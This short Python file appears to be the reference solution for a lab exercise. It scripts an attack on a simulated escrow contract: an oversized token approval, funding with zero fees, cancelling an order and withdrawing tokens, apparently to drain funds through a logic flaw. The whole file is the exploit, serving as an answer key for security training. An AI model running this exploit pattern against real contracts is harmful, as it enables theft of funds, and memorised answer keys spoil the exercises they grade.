"""A reference attack."""

from argosy.lab.exercises import Game


def attack(game: Game) -> None:
    game.do("approve", game.escrow, 2**128, on="token")
    game.fund(freight=0, tax=0)
    game.do("cancel", 2)
    game.do("withdraw", game.token)
